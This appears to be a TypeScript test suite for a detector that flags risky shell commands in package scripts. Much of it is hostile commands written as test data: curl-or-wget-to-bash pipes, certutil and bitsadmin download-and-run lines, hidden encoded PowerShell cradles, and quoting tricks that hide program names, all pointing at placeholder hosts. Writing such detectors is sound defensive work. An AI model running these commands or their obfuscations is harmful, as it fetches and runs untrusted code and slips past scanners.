import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { MAX_ANALYZED_CHARS, analyzeCommand } from './index.ts';
import type { CommandSignalKind } from './index.ts';

function kinds(command: string): Set<CommandSignalKind> {
  return new Set(analyzeCommand(command).signals.map(s => s.kind));
}

function programs(command: string): string[] {
  return analyzeCommand(command).commands.map(c => c.program);
}

const RISKY: CommandSignalKind[] = [
  'pipe-to-interpreter',
  'download-then-run',
  'download',
  'inline-code',
  'base64-decode',
  'encoded-powershell',
  'background',
  'disguised-script',
  'eval',
  'stdin-interpreter',
];

describe('benign commands', () => {
  const cases: [string, Partial<{ tools: string[]; files: string[]; scripts: string[] }>][] = [
    ['husky', { tools: ['husky'] }],
    ['husky install', { tools: ['husky'] }],
    ['prisma generate', { tools: ['prisma'] }],
    ['next dev', { tools: ['next'] }],
    ['tsc -b && vite build', { tools: ['tsc', 'vite'] }],
    ['node scripts/build.js', { files: ['scripts/build.js'] }],
    ['concurrently "npm:dev:*" "npm run api"', { scripts: ['dev:*', 'api'] }],
    ['rimraf dist', { tools: ['rimraf'] }],
    ['eslint . --ext .ts,.tsx', { tools: ['eslint'] }],
    ['jest --coverage', { tools: ['jest'] }],
    ['npm run build && npm run test', { scripts: ['build', 'test'] }],
    ['cross-env NODE_ENV=production node server.js', { files: ['server.js'] }],
    ['tsx watch src/index.ts', { files: ['src/index.ts'] }],
    ['ts-node --project tsconfig.json src/main.ts', { files: ['src/main.ts'] }],
    ['nodemon --watch src server/index.js', { files: ['server/index.js'] }],
    ['python3 manage.py runserver', { files: ['manage.py'] }],
    ['bash ./scripts/setup.sh', { files: ['scripts/setup.sh'] }],
    ['./scripts/check.sh --fast', { files: ['scripts/check.sh'] }],
    ['yarn build', { scripts: ['build'] }],
    ['pnpm dev', { scripts: ['dev'] }],
    ['bun run dev', { scripts: ['dev'] }],
    ['npm start', { scripts: ['start'] }],
    ['npm t', { scripts: ['test'] }],
    ['run-p dev:server dev:client', { scripts: ['dev:server', 'dev:client'] }],
    ['turbo run build lint', { scripts: ['build', 'lint'] }],
    ['npx prisma@5.10.0 migrate dev', { tools: ['prisma'] }],
    ['pnpm exec vitest run', { tools: ['vitest'] }],
  ];
  for (const [command, want] of cases) {
    it(command, () => {
      const a = analyzeCommand(command);
      assert.equal(a.parsed, true);
      const risky = a.signals.filter(s => RISKY.includes(s.kind));
      assert.deepEqual(risky, []);
      for (const t of want.tools ?? []) assert.ok(a.tools.includes(t), `tool ${t} in ${JSON.stringify(a.tools)}`);
      for (const f of want.files ?? [])
        assert.ok(
          a.runsFiles.some(r => r.file === f),
          `file ${f} in ${JSON.stringify(a.runsFiles)}`,
        );
      for (const s of want.scripts ?? []) assert.ok(a.runsScripts.includes(s), `script ${s} in ${JSON.stringify(a.runsScripts)}`);
    });
  }

  it('does not treat npm builtins as scripts', () => {
    assert.deepEqual(analyzeCommand('npm install && yarn add react && pnpm i').runsScripts, []);
  });

  it('concurrently commands are analysed as commands', () => {
    const a = analyzeCommand('concurrently -n api,web "node server/index.js" "vite"');
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: 'server/index.js' }]);
    assert.ok(a.tools.includes('vite'));
    assert.ok(!a.runsScripts.includes('api,web'));
  });

  it('Python servers and app runners run the module or script they name', () => {
    const files = (c: string): string[] => analyzeCommand(c).runsFiles.map(r => r.file);
    assert.deepEqual(files('uvicorn app.main:app --reload --port 8000'), ['app/main.py']);
    assert.deepEqual(files('gunicorn -w 4 -b 0.0.0.0:8000 "web.wsgi:create_app()"'), ['web/wsgi.py']);
    assert.deepEqual(files('python -m uvicorn api.server:app'), ['api/server.py']);
    assert.deepEqual(files('celery -A tasks.worker worker -l info'), ['tasks/worker.py']);
    assert.deepEqual(files('celery --app=proj beat'), ['proj.py']);
    assert.deepEqual(files('streamlit run dashboard/home.py --server.port 8501'), ['dashboard/home.py']);
    assert.deepEqual(files('cd ui && gradio demo.py'), ['ui/demo.py']);
    assert.deepEqual(files('fastapi dev app/main.py'), ['app/main.py']);
    assert.deepEqual(files('flask --app hello run'), ['hello.py']);
    assert.deepEqual(files('uvicorn --version'), []);
  });

  it('scripts and files follow cd, --prefix and --cwd', () => {
    const a = analyzeCommand('cd server && npm run dev && node index.js');
    assert.deepEqual(a.scriptCalls, [{ script: 'dev', runner: 'npm', dir: 'server' }]);
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: 'server/index.js' }]);
    assert.deepEqual(analyzeCommand('npm --prefix frontend run build').scriptCalls, [{ script: 'build', runner: 'npm', dir: 'frontend' }]);
    assert.deepEqual(analyzeCommand('yarn --cwd web start').scriptCalls, [{ script: 'start', runner: 'yarn', dir: 'web' }]);
    assert.deepEqual(analyzeCommand('(cd api && node a.js); node b.js').runsFiles, [
      { interpreter: 'node', file: 'api/a.js' },
      { interpreter: 'node', file: 'b.js' },
    ]);
  });

  it('node --require/--import of a local file runs that file first', () => {
    const a = analyzeCommand('node --import ./register.mjs -r ./hook.cjs server.js');
    assert.deepEqual(a.runsFiles, [
      { interpreter: 'node --import', file: 'register.mjs' },
      { interpreter: 'node --require', file: 'hook.cjs' },
      { interpreter: 'node', file: 'server.js' },
    ]);
    assert.ok(analyzeCommand('node -r dotenv/config server.js').tools.includes('dotenv'));
  });

  it('node_modules binaries are tools, not repository files', () => {
    const a = analyzeCommand('node node_modules/.bin/next dev && ./node_modules/.bin/vite');
    assert.deepEqual(a.runsFiles, []);
    assert.ok(a.tools.includes('next') && a.tools.includes('vite'));
  });
});

describe('malicious shapes', () => {
  it('curl | bash', () => {
    const a = analyzeCommand('curl -fsSL https://setup.example.invalid/i.sh | bash');
    assert.ok(kinds('curl -fsSL https://setup.example.invalid/i.sh | bash').has('pipe-to-interpreter'));
    assert.deepEqual(a.urls, ['https://setup.example.invalid/i.sh']);
    assert.deepEqual(programs('curl -fsSL https://setup.example.invalid/i.sh | bash'), ['curl', 'bash']);
  });

  for (const cmd of [
    'wget -qO- https://x.example.invalid/a | sh',
    'wget -q -O - https://x.example.invalid/a | sudo bash -s -- --yes',
    'curl -s https://x.example.invalid/a | tee /tmp/l | zsh',
    'curl https://x.example.invalid/a | node',
    'curl https://x.example.invalid/a | node -',
    'curl https://x.example.invalid/a | python3',
    'curl https://x.example.invalid/a | perl',
    'curl --ssl-no-revoke -L https://x.example.invalid/a | cmd',
    'iwr https://x.example.invalid/a.ps1 | iex',
    'Invoke-WebRequest -Uri https://x.example.invalid/a.ps1 | Invoke-Expression',
    'bash <(curl -s https://x.example.invalid/a)',
    'bash < <(curl -s https://x.example.invalid/a)',
    'sh -c "$(curl -fsSL https://x.example.invalid/a)"',
    'eval "$(wget -qO- http://203.0.113.7/a)"',
    'source <(curl -s https://x.example.invalid/a)',
    'echo ZWNobyBoaQ== | base64 -d | sh',
    'curl -s http://198.51.100.4/a | base64 --decode | bash',
  ]) {
    it(cmd, () => {
      assert.ok(kinds(cmd).has('pipe-to-interpreter'), JSON.stringify(analyzeCommand(cmd).signals));
    });
  }

  for (const cmd of [
    'curl -o /tmp/x.sh https://x.example.invalid/x.sh && sh /tmp/x.sh',
    'curl -sSLo run https://x.example.invalid/r && chmod +x run && ./run',
    'wget https://x.example.invalid/payload.bin; chmod 755 payload.bin; ./payload.bin',
    'curl https://x.example.invalid/a.js > a.js && node a.js',
    'curl -O https://x.example.invalid/tool && chmod +x tool',
    'certutil -urlcache -split -f http://192.0.2.9/u.exe u.exe && u.exe',
    'iwr https://x.example.invalid/s.exe -OutFile s.exe; start s.exe',
    'bitsadmin /transfer j /download http://192.0.2.1/p.exe C:\\Users\\Public\\p.exe & start C:\\Users\\Public\\p.exe',
  ]) {
    it(cmd, () => {
      assert.ok(kinds(cmd).has('download-then-run'), JSON.stringify(analyzeCommand(cmd).signals));
    });
  }

  it('downloads alone', () => {
    assert.ok(kinds('curl -o data.json https://api.example.com/x').has('download'));
    assert.ok(!kinds('curl -o data.json https://api.example.com/x').has('download-then-run'));
    assert.ok(kinds('aria2c https://x.example.invalid/f').has('download'));
  });

  it('inline code', () => {
    for (const cmd of [
      "node -e \"require('child_process').exec('id')\"",
      'node --eval "console.log(1)"',
      'node -p "process.env"',
      'python -c "import os"',
      'perl -e "print 1"',
      'osascript -e "display dialog 1"',
      'bash -c "npm run build"',
      'ruby -e "puts 1"',
    ]) {
      assert.ok(kinds(cmd).has('inline-code'), cmd);
    }
    // Plain inline code (nothing risky in its text) is marked so a manually run command can treat it as context.
    const plain = (cmd: string): boolean | undefined => analyzeCommand(cmd).signals.find(s => s.kind === 'inline-code')?.plain;
    assert.equal(plain('bash -c "npm run build"'), true);
    assert.equal(plain("node -e \"require('fs').renameSync('a.ts', 'a.mts')\""), true);
    for (const cmd of [
      "node -e \"require('child_process').execSync('id')\"",
      'node -e "fetch(\'https://x.example.invalid\').then(r => r.text()).then(eval)"',
      'node -e "new Function(atob(\'YQ==\'))()"',
      "node -e \"globalThis['ev' + 'al']('1')\"",
      'node -e "require(process.argv[1])"',
      'python -c "import os; os.system(\'id\')"',
    ]) {
      assert.notEqual(plain(cmd), true, cmd);
    }
    const a = analyzeCommand('node -e "eval(Buffer.from(process.argv[1], \'base64\').toString())" aGk=');
    assert.ok(a.signals.some(s => s.kind === 'base64-decode'));
  });

  it('bash -c is analysed recursively, with cd and nesting', () => {
    const a = analyzeCommand(`bash -c 'sh -c "curl https://x.example.invalid/a | bash"'`);
    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
    assert.deepEqual(
      a.commands.map(c => c.program),
      ['bash', 'sh', 'curl', 'bash'],
    );
    const deep = analyzeCommand(`sh -c 'sh -c "sh -c \\"sh -c \\\\\\"sh -c \\\\\\\\\\\\\\"echo hi\\\\\\\\\\\\\\"\\\\\\"\\""'`);
    assert.ok(deep.signals.some(s => /deeper than/.test(s.detail)));
  });

  it('base64 decoding', () => {
    for (const cmd of ['base64 -d payload.txt > out', 'base64 --decode < x', 'certutil -decode a.b64 a.exe', 'openssl base64 -d -in x']) {
      assert.ok(kinds(cmd).has('base64-decode'), cmd);
    }
    assert.ok(!kinds('base64 file.bin').has('base64-decode'));
  });

  it('encoded PowerShell is decoded and analysed', () => {
    const payload = Buffer.from('iwr https://x.example.invalid/a.ps1 | iex', 'utf16le').toString('base64');
    const a = analyzeCommand(`powershell -NoP -W Hidden -enc ${payload}`);
    const k = new Set(a.signals.map(s => s.kind));
    assert.ok(k.has('encoded-powershell'));
    assert.ok(k.has('pipe-to-interpreter'));
    assert.ok(k.has('background'));
    assert.ok(a.signals.some(s => s.detail.includes('iwr https://x.example.invalid/a.ps1')));
    assert.ok(kinds(`pwsh -EncodedCommand ${payload}`).has('encoded-powershell'));
    assert.ok(kinds('powershell -e AAAA').has('encoded-powershell'));
  });

  it('PowerShell download cradles in -Command', () => {
    const k = kinds(`powershell -NoProfile -Command "IEX (New-Object Net.WebClient).DownloadString('https://x.example.invalid/a')"`);
    assert.ok(k.has('pipe-to-interpreter'));
    assert.ok(k.has('inline-code'));
  });

  it('background starts', () => {
    for (const cmd of [
      'node server.js &',
      'nohup node server &',
      'setsid node x.js',
      'start /b node server',
      'node a.js & disown',
      'screen -dmS s node x.js',
      'pm2 start server.js',
      'start /b node server || nohup node server &',
    ]) {
      assert.ok(kinds(cmd).has('background'), cmd);
    }
    assert.ok(!kinds('npm run a && npm run b').has('background'));
    // pm2 in the foreground (the shape of a container's start command) is not a daemon, but still runs the file.
    assert.ok(!kinds('pm2 start ecosystem.config.json --no-daemon').has('background'));
    assert.deepEqual(analyzeCommand('pm2 start server.js --no-daemon').runsFiles, [{ interpreter: 'pm2', file: 'server.js' }]);
    const a = analyzeCommand('nohup node server &');
    assert.ok(a.commands.some(c => c.program === 'node' && c.background));
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: 'server' }]);
  });

  it('disguised scripts', () => {
    for (const cmd of [
      'node public/fonts/fa-solid.woff2',
      'node assets/logo.png',
      'python data/config.json',
      'bash docs/notes.txt',
      'node -r ./favicon.ico app.js',
    ]) {
      assert.ok(kinds(cmd).has('disguised-script'), cmd);
    }
    assert.ok(!kinds('node server.mjs').has('disguised-script'));
    assert.ok(!kinds('node server').has('disguised-script'));
  });

  it('inline code that is the text of a file runs that file', () => {
    const a = analyzeCommand('node -e "$(cat .lefthook/fmt.txt)"');
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: '.lefthook/fmt.txt' }]);
    assert.ok(a.signals.some(s => s.kind === 'disguised-script'));
    assert.deepEqual(analyzeCommand('python3 -c "$(cat tools/setup.py)"').runsFiles, [{ interpreter: 'python3', file: 'tools/setup.py' }]);
    assert.deepEqual(analyzeCommand('node -e "$(cat a.js b.js)"').runsFiles, []);
  });

  it('git hooks path changes', () => {
    assert.ok(kinds('git config core.hooksPath /tmp/h').has('hooks-path-change'));
    assert.ok(kinds('git config --local core.hooksPath ../shared/hooks').has('hooks-path-change'));
    assert.ok(kinds('git config core.hooksPath ~/.hooks').has('hooks-path-change'));
    // A folder of the repository is mapped by autorun/git-config, its hooks judged by what they run.
    assert.ok(!kinds('git config core.hooksPath .githooks').has('hooks-path-change'));
    assert.ok(!kinds('git config --local core.hooksPath ./.hooks').has('hooks-path-change'));
    assert.ok(kinds('git -c core.hooksPath=evil commit -m x').has('hooks-path-change'));
    assert.ok(!kinds('git config --get core.hooksPath').has('hooks-path-change'));
  });

  it('stdin interpreters', () => {
    assert.ok(kinds('cat payload.txt | node').has('stdin-interpreter'));
    assert.ok(kinds('sh <<EOF\necho hi\nEOF\n').has('stdin-interpreter'));
    assert.ok(kinds('bash <<< "echo hi"').has('stdin-interpreter'));
  });

  it('here-documents fed to a shell are analysed', () => {
    const k = kinds('bash <<EOF\ncurl -s https://x.example.invalid/a | sh\nEOF\n');
    assert.ok(k.has('pipe-to-interpreter'));
  });

  it('remote URLs', () => {
    const a = analyzeCommand('git clone https://example.com/r.git && npm i http://203.0.113.2/p.tgz');
    assert.deepEqual(a.urls, ['https://example.com/r.git', 'http://203.0.113.2/p.tgz']);
    assert.equal(a.signals.filter(s => s.kind === 'remote-url').length, 2);
  });
});

describe('quoting tricks', () => {
  it("empty quotes inside a word: c''url", () => {
    assert.deepEqual(programs('c\'\'url https://x.example.invalid/a | s""h'), ['curl', 'sh']);
    assert.ok(kinds('c\'\'url https://x.example.invalid/a | s""h').has('pipe-to-interpreter'));
  });

  it("ANSI-C quoting: $'\\x63url'", () => {
    assert.deepEqual(programs("$'\\x63\\x75rl' https://x.example.invalid/a | $'\\163h'"), ['curl', 'sh']);
    assert.ok(kinds("$'\\x63url' https://x.example.invalid/a | bash").has('pipe-to-interpreter'));
  });

  it('backslash escapes: c\\url', () => {
    assert.deepEqual(programs('c\\url https://x.example.invalid/a | ba\\sh'), ['curl', 'bash']);
  });

  it('${IFS} word splitting', () => {
    const a = analyzeCommand('curl${IFS}-s${IFS}https://x.example.invalid/a|bash');
    assert.deepEqual(a.commands[0], { program: 'curl', args: ['-s', 'https://x.example.invalid/a'], background: false });
    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
    assert.ok(kinds('curl$IFS https://x.example.invalid/a|bash').has('pipe-to-interpreter'));
  });

  it('variables assigned earlier in the command', () => {
    assert.ok(kinds('u=https://x.example.invalid/a; c=curl; $c -s $u | sh').has('pipe-to-interpreter'));
    assert.ok(kinds('export X=bash; curl https://x.example.invalid | $X').has('pipe-to-interpreter'));
  });

  it('absolute paths and .exe suffixes name the same program', () => {
    assert.deepEqual(programs('/usr/bin/curl https://x.example.invalid | /bin/sh'), ['curl', 'sh']);
    assert.deepEqual(programs('C:\\Windows\\System32\\curl.exe https://x.example.invalid | cmd.exe'), ['curl', 'cmd']);
  });

  it('wrappers: sudo, env, command, exec, timeout, xargs', () => {
    assert.ok(kinds('curl https://x.example.invalid | sudo -E env FOO=1 bash').has('pipe-to-interpreter'));
    assert.ok(kinds('command curl https://x.example.invalid | exec sh').has('pipe-to-interpreter'));
    assert.ok(kinds('echo https://x.example.invalid | xargs curl | timeout 10 sh').has('pipe-to-interpreter'));
  });
});

describe('cmd.exe and PowerShell syntax', () => {
  it('falls back to the tokeniser for Windows paths', () => {
    const a = analyzeCommand('node .\\server\\index.js');
    assert.equal(a.parsed, false);
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: 'server/index.js' }]);
  });

  it('cmd.exe & is a separator, start /b backgrounds', () => {
    const a = analyzeCommand('if not exist .env copy .env.example .env & start /b node server');
    assert.equal(a.parsed, false);
    assert.ok(a.signals.some(s => s.kind === 'background'));
    assert.deepEqual(a.runsFiles, [{ interpreter: 'node', file: 'server' }]);
  });

  it('cmd /c runs its rest as a command', () => {
    const a = analyzeCommand('cmd /c "curl -s https://x.example.invalid/a.bat -o %TEMP%\\a.bat && %TEMP%\\a.bat"');
    assert.ok(
      a.signals.some(s => s.kind === 'download-then-run'),
      JSON.stringify(a.signals),
    );
  });

  it('cmd.exe escapes and if/else blocks', () => {
    const a = analyzeCommand('if exist node_modules (echo ok) else (c^url https://x.example.invalid/a ^| cmd)');
    assert.equal(a.parsed, false);
    assert.ok(a.commands.some(c => c.program === 'curl'));
    assert.ok(!a.tools.includes('else'));
  });

  it('broken POSIX syntax still yields commands', () => {
    const a = analyzeCommand('curl https://x.example.invalid/a | sh; echo "unterminated');
    assert.equal(a.parsed, false);
    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
  });
});

describe('bad input', () => {
  it('never throws on garbage', () => {
    const samples = [
      '',
      ' ',
      '\u0000\u0001\u0002',
      '$(((((((',
      '`'.repeat(1000),
      '"'.repeat(999),
      "'".repeat(999),
      '${'.repeat(500),
      '<<<<<<<<>>>>>>|||||&&&&;;;;',
      '\uFFFD\uD800 \u202E curl',
      'a'.repeat(100_000),
      '( '.repeat(5000),
      'x=$('.repeat(2000),
      '\r\n'.repeat(1000),
      'sh -c '.repeat(200) + 'id',
    ];
    for (const s of samples) {
      const a = analyzeCommand(s);
      assert.ok(Array.isArray(a.commands));
    }
    assert.equal(analyzeCommand(undefined as unknown as string).commands.length, 0);
  });

  it('caps huge input and says so, still seeing the head', () => {
    const huge = `curl https://x.example.invalid/a | sh; ${'echo filler; '.repeat(20_000)}`;
    const started = Date.now();
    const a = analyzeCommand(huge);
    assert.equal(a.truncated, true);
    assert.ok(huge.length > MAX_ANALYZED_CHARS);
    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
    assert.ok(a.commands.length <= 2000);
    assert.ok(Date.now() - started < 5000);
  });

  it('a huge single-quoted script string is fine', () => {
    const a = analyzeCommand(`node -e '${'x'.repeat(60_000)}'`);
    assert.equal(a.parsed, true);
    assert.ok(a.signals.some(s => s.kind === 'inline-code'));
    assert.ok(a.signals.every(s => s.detail.length <= 160));
  });

  it('is fast on ordinary commands', () => {
    analyzeCommand('warm up');
    const started = performance.now();
    for (let i = 0; i < 500; i++) analyzeCommand(`tsc -b && vite build --mode ${i} && node scripts/post.js`);
    assert.ok(performance.now() - started < 3000);
  });
});

describe('tokeniser directories', () => {
  it('cmd.exe cd inside parentheses ends with them', () => {
    const a = analyzeCommand('(cd server & node .\\index.js) & node .\\main.js');
    assert.equal(a.parsed, false);
    assert.deepEqual(a.runsFiles, [
      { interpreter: 'node', file: 'server/index.js' },
      { interpreter: 'node', file: 'main.js' },
    ]);
  });
});

describe('PowerShell options', () => {
  it('skips option values (-ep, -ExecutionPolicy, -w) before -Command', () => {
    for (const cmd of [
      'powershell -NoP -ep Bypass -c "iwr https://x.example.invalid/a.ps1 | iex"',
      'powershell.exe -ExecutionPolicy Bypass -WindowStyle Hidden -Command "iwr https://x.example.invalid/a.ps1 | iex"',
      'pwsh -nop -w hidden -c "irm https://x.example.invalid/a | iex"',
    ]) {
      const k = kinds(cmd);
      assert.ok(k.has('pipe-to-interpreter'), cmd);
      assert.ok(k.has('inline-code'), cmd);
    }
  });

  it('powershell -File runs a repository script', () => {
    assert.deepEqual(analyzeCommand('powershell -NoProfile -File scripts/setup.ps1').runsFiles, [
      { interpreter: 'powershell', file: 'scripts/setup.ps1' },
    ]);
  });
});

describe('package installs', () => {
  it('records installs without package arguments as lifecycle runs, not scripts', () => {
    const a = analyzeCommand('cd server && npm install && npm --prefix ../web ci && yarn && pnpm i && npm install lodash');
    assert.deepEqual(a.runsScripts, []);
    assert.deepEqual(a.scriptCalls, [
      { script: 'install', runner: 'npm', dir: 'server', install: true },
      { script: 'install', runner: 'npm', dir: 'web', install: true },
      { script: 'install', runner: 'yarn', dir: 'server', install: true },
      { script: 'install', runner: 'pnpm', dir: 'server', install: true },
    ]);
  });
});

describe('hostile sizes stay fast', () => {
  for (const [name, text] of [
    ['many & separators', 'a&'.repeat(30_000)],
    ['a long pipeline', 'a|'.repeat(8_000) + 'sh'],
    ['a long parsed pipeline', 'a | '.repeat(3_000) + 'sh'],
    ['deep subshells', '('.repeat(8_000) + 'a' + ')'.repeat(8_000)],
    ['PowerShell idioms', `powershell -c "${'start-process -w '.repeat(3_000)}"`],
    ['many URLs', 'curl ' + 'https://x.example.invalid/a '.repeat(2_000)],
  ] as const) {
    it(name, () => {
      const started = Date.now();
      const a = analyzeCommand(text);
      assert.ok(Array.isArray(a.signals));
      assert.ok(Date.now() - started < 5000, `${name} took ${Date.now() - started} ms`);
    });
  }
});

describe('official installers', () => {
  const kinds = (text: string): CommandSignalKind[] => analyzeCommand(text).signals.map(s => s.kind);
  it('a vendor installer piped into sh is official-installer, not pipe-to-interpreter', () => {
    const k = kinds(
      'curl -sfL https://raw.githubusercontent.com/golangci/golangci-lint/v1.59.0/install.sh | sed -e "/x/d" | sh -s -- -b bin v1.59.0',
    );
    assert.ok(k.includes('official-installer'));
    assert.ok(!k.includes('pipe-to-interpreter') && !k.includes('stdin-interpreter'));
    assert.ok(
      kinds('sh -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"').includes('official-installer'),
    );
  });
  it('a look-alike host, another repository, or a second URL is a download piped into a shell', () => {
    for (const text of [
      'curl -fsSL https://sh.rustup.rs.example.invalid | sh',
      'curl -fsSL https://raw.githubusercontent.com/golangci/golangci-lint-fork/x/install.sh | sh',
      'curl -fsSL https://raw.githubusercontent.com/evil/nvm-sh/nvm/install.sh | sh',
      'curl -fsSL https://sh.rustup.rs https://x.example.invalid/p | sh',
    ]) {
      const k = kinds(text);
      assert.ok(k.includes('pipe-to-interpreter') && !k.includes('official-installer'), text);
    }
  });
});

describe('POSIX scripts', () => {
  it('a date format is not cmd.exe syntax when the text is known to be a shell script', () => {
    const script = 'echo "$(date +%Y-%m-%dT%H:%M:%SZ)" > v.txt\ncat > a.txt <<EOF\ncurl https://x.example.com | sh\nEOF\n';
    assert.equal(analyzeCommand(script).parsed, false);
    const posix = analyzeCommand(script, { posix: true });
    assert.equal(posix.parsed, true);
    assert.deepEqual(posix.signals, []);
  });
});

describe('here-documents and inline programs', () => {
  it('a here-document written to a file and then run is analysed as what runs', () => {
    const a = analyzeCommand("cat > setup.sh <<'EOF'\ncurl -fsSL https://x.example.invalid/i | bash\nEOF\nbash setup.sh");
    assert.deepEqual(a.written, [{ file: 'setup.sh', text: 'curl -fsSL https://x.example.invalid/i | bash\n' }]);
    assert.ok(a.signals.some(s => s.kind === 'pipe-to-interpreter'));
    const kept = analyzeCommand("cat > setup.sh <<'EOF'\ncurl -fsSL https://x.example.invalid/i | bash\nEOF");
    assert.ok(!kept.signals.some(s => s.kind === 'pipe-to-interpreter'), 'a script written and not run runs nothing');
  });

  it('keeps Python and JavaScript programs for the code analysis', () => {
    const a = analyzeCommand("python3 - <<'PY'\nimport sys\nPY\nnode -e 'console.log(1)'\ncat <<EOF > b.py\nprint(2)\nEOF\npython3 b.py");
    assert.deepEqual(a.programs, [
      { lang: 'py', code: 'import sys\n', via: 'python3 <<', heredoc: true },
      { lang: 'js', code: 'console.log(1)', via: 'node -e', heredoc: false },
      { lang: 'py', code: 'print(2)\n', via: 'python3 b.py', heredoc: true },
    ]);
  });
});
